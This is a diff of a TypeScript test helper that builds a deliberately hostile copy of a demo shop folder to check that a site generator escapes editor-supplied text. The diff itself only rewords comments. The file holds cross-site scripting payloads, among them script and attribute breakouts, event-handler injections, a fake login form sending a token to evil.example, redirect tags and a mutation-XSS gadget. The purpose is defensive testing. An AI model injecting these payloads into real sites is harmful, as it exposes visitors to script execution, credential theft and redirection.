@@ -3,10 +3,12 @@ import os from 'node:os';
 import path from 'node:path';
 import { parse, stringify } from 'yaml';
 
-/** Ends whatever it stands in (a script, an attribute, a comment, a text of JavaScript) and says so in `window.hacked`. */
+/**
+ * Breaks out of wherever it is put (a script, an attribute, a comment, a JavaScript string) and sets `window.hacked`.
+ */
 export const HOSTILE_TEXT = `</script><script>hacked=1</script><img src=x onerror=hacked=2>"'><!--\u2028\${hacked=3}`;
 
-/** The same in as few letters as the shortest text may have. */
+/** The same within the shortest length that a text may have. */
 const HOSTILE_LABEL = `</script><img src=x onerror=hacked=3>"'<!--\u2028`;
 
 const HOSTILE_HTML = `<script>hacked=4</script><img src="https://evil.example/pixel" onerror="hacked=5"><svg onload=hacked=6><p onclick="hacked=7"
@@ -14,7 +16,7 @@ style="background:url(https://evil.example/style)" id="root">Text</p><a href="ja
 <form action="https://evil.example"><input name="token"><button>Log in</button></form><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
 <link rel="stylesheet" href="https://evil.example/style.css"><object data="https://evil.example"></object><math><mtext><table><mglyph><style><img src=x onerror=hacked=10>`;
 
-/** Keys whose texts are shown to people; everywhere else a strange value is a mistake of the folder. */
+/** Keys whose texts are shown to people; elsewhere a strange value is a fault of the folder. */
 const SHOWN = new Set([
   'name',
   'tagline',
@@ -36,7 +38,7 @@ const SHOWN = new Set([
 ]);
 const TABLES_OF_TEXTS = new Set(['methods', 'product_types', 'merchandise_types', 'age_ranges', 'channels']);
 
-/** The demo's shop as an editor would leave it who wants to reach the visitors' browsers. `remove` takes it away. */
+/** The demo shop with an attack in every text. `remove` deletes it. */
 export async function givenHostileShopFolder(): Promise<{ folder: string; remove(): Promise<void> }> {
   const folder = await mkdtemp(path.join(os.tmpdir(), 'foyer-hostile-'));
   await cp(path.resolve('demo'), folder, { recursive: true });
